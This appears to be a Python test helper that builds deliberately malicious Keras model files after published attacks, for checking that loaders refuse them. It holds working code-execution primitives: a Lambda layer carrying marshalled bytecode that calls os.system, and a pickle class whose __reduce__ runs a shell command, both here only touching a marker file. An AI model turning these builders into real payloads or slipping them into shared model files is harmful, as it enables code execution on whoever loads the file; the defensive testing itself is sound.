"""Model files as published attacks on Keras make them.

    case = Case("tf_keras", parts, given, outside)      # parts: of an ordinary model's file
    path = attack_file_helpers.ATTACKS["zip slip"].build(case)
    case.secret, case.mark                          # what it would read, what it would write

An attack reads `secret` or makes `mark`, both in a folder that no command is given. Each names the
report that it follows.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import numpy as np

Parts = dict[str, Any]
CONFIG, WEIGHTS = "config.json", "model.weights.h5"


def model_parts(family: Any, folder: Path) -> dict[str, bytes]:
    """Returns the parts of a small functional model's `.keras` file, for 8 × 8 pixels, by name."""
    image = family.Input((8, 8, 3))
    pooled = family.layers.GlobalAveragePooling2D()(image)
    family.Model(image, family.layers.Dense(2)(pooled)).save(folder / "model.keras")
    with zipfile.ZipFile(folder / "model.keras") as file:
        return {part: file.read(part) for part in file.namelist()}


class Case:
    """Where one attack is written, and what it aims at.

    Attributes:
      family: name of the Keras that is to load the file.
      parts: bytes of the parts of an ordinary model's file, by name.
      folder: for the attack's files.
      secret: a file outside of all folders that a command is given.
      mark: a file beside it that is not there.
      bomb_bytes: that a zip bomb unpacks to.
    """

    def __init__(
        self, family: str, parts: Parts, folder: Path, outside: Path, bomb_bytes: int = 120 << 20
    ) -> None:
        self.family, self.parts, self.folder = family, parts, folder
        self.secret, self.mark = outside / "secret", outside / "mark"
        self.bomb_bytes = bomb_bytes
        for directory in (folder, outside):
            directory.mkdir(parents=True, exist_ok=True)
        np.arange(6, dtype="f4").tofile(self.secret)

    @property
    def is_keras_3(self) -> bool:
        return self.family == "keras"

    def config(self) -> dict[str, Any]:
        return json.loads(self.parts[CONFIG])

    def write(self, parts: Mapping[str, Any], name: str = "evil.keras") -> Path:
        """Writes a model file of parts."""
        path = self.folder / name
        path.write_bytes(packed(parts))
        return path

    def with_config(self, config: Any) -> Path:
        return self.write({**self.parts, CONFIG: json.dumps(config)})

    def with_layers(self, *layers: Mapping[str, Any]) -> Path:
        """Writes the model with more layers."""
        config = self.config()
        config["config"]["layers"] += layers
        return self.with_config(config)

    def with_weights(self, change: Callable[[Any], Any]) -> Path:
        """Writes the model after `change` was called on its open HDF5 file."""
        weights = io.BytesIO(self.parts[WEIGHTS])
        with h5py.File(weights, "r+") as file:
            changed = change(file)
        return self.write({**self.parts, WEIGHTS: changed or weights.getvalue()})

    def call(self, value: Any, /, **arguments: Any) -> list[Any]:
        """Returns the calls of a layer: one, on a constant."""
        if self.is_keras_3:
            return [{"args": [value], "kwargs": arguments}]
        return [["_CONSTANT_VALUE", -1, value, arguments]]

    def bytecode(self) -> Any:
        """Returns a function of Python that makes the mark, as the family keeps a lambda."""
        source = f"lambda x: (__import__('os').system('touch {self.mark}'), x)[1]"
        code = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
        if not self.is_keras_3:
            return [code, None, None]
        words = {"code": code, "defaults": None, "closure": None}
        return {"class_name": "__lambda__", "config": words}

    def lambda_layer(
        self, kind: str, called: Any, value: Any = 1.0, name: str = "added", /, **arguments: Any
    ) -> Any:
        """Returns a Lambda that is called on a value.

        Args:
          kind: 'lambda' for bytecode, and 'function' for a named one.
          arguments: of the function, besides the value.
        """
        config = {"function": called, "arguments": arguments}
        calls = [{"args": [], "kwargs": {"inputs": value}}]
        if not self.is_keras_3:
            config |= {"function_type": kind, "output_shape": None, "output_shape_type": "raw"}
            calls = self.call(value)
        return layer("Lambda", config, inbound=calls, name=name)

    def bad_lambda(self, name: str = "bad") -> dict[str, Any]:
        return self.lambda_layer("lambda", self.bytecode(), 1.0, name)


def packed(parts: Mapping[str, Any]) -> bytes:
    """Returns a zip of parts."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return data.getvalue()


def layer(
    class_name: Any,
    config: Mapping[str, Any],
    module: Any = "keras.layers",
    inbound: Any = (),
    name: str = "added",
    **more: Any,
) -> dict[str, Any]:
    """Returns the configuration of a layer, as both families write it."""
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": name, **config},
        "registered_name": None,
        "name": name,
        "inbound_nodes": list(inbound),
        **more,
    }


def function(name: str, module: str = "builtins") -> dict[str, Any]:
    """Returns the configuration of a function."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


class Attack(NamedTuple):
    """A file that acts.

    Attributes:
      source: the report that it follows.
      build: writes the file and returns its path.
      is_left_out: whether the part that acts is left out and the rest of the file loaded.
    """

    source: str
    build: Callable[[Case], Path]
    is_left_out: bool = False


class Attacks(dict[str, Attack]):
    """Attacks by name."""

    def add(self, name: str, source: str, **options: Any) -> Callable[[Any], Any]:
        """Returns a decorator that adds the function that builds the file."""

        def decorate(build: Callable[[Case], Path]) -> Callable[[Case], Path]:
            self[name] = Attack(source, build, **options)
            return build

        return decorate


class Reduced:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def pickled(case: Case) -> bytes:
    """Returns a pickle that makes the mark."""
    return pickle.dumps(Reduced(f"touch {case.mark}"))
